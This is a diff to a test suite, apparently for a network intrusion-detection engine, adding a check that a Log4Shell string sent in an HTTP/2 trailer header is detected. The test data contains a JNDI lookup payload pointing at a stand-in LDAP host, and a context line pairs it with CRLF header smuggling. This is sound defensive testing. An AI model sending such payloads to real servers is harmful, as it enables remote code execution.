@@ -499,6 +499,10 @@ describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
     // Inspected at the reset (frame 6), its transaction logged.
     assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'body', 'user', CLIENT]]);
     assert.deepEqual([out.engine.http.stats.request_bodies, out.engine.http.stats.transactions], [1, 1]);
+    // Trailers after the body are inspected too: HEADERS, DATA, then a HEADERS block that ends the stream.
+    const trailer = Buffer.concat([Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
+    const t = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x4, 1, block)])).send(frame(0, 0, 1, Buffer.from('user=ann'))).send(frame(1, 0x5, 1, trailer));
+    assert.deepEqual(seen(run(t.close().frames).alerts), [[LOG4SHELL, 6, 'header', 'x-api', CLIENT]]);
     // A line break in a field (which RFC 9113 forbids) does not end the head written for it: the field after it is read.
     const hidden = Buffer.concat([Buffer.from([0x82, 0x84, 0x40, 1]), Buffer.from('x'), Buffer.from([8]), Buffer.from('a\r\n\r\nb: '), Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
     const crlf = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, hidden)]));
